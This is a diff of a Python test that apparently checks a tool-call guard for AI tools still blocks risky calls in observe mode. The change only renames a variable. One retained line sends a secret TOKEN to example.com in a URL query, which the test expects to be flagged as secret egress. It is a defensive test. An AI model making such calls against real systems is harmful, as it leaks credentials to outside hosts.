@@ -63,8 +63,8 @@ async def test_observing_never_lifts_gate_validator_registry_or_floor(tmp_path: 
     async with opened(tmp_path, EVERY + 'mode = "observe"\nobserve = ["leaks", "credentials", "pii"]') as world:
         assert code(await world.call("echo", {"text": 5})).startswith("validator/")
         assert code(await world.call("no-such-tool", {})) == "tools/unknown"
-        secret = await world.call("http_fetch", {"url": f"https://example.com/?q={TOKEN}"})
-        assert code(secret) == "leaks/secret-to-egress"
+        sent = await world.call("http_fetch", {"url": f"https://example.com/?q={TOKEN}"})
+        assert code(sent) == "leaks/secret-to-egress"
         gate = world.house.dispatcher._gate
         digest, gate._digest = gate._digest, lambda _arguments: gate._policy
         try:
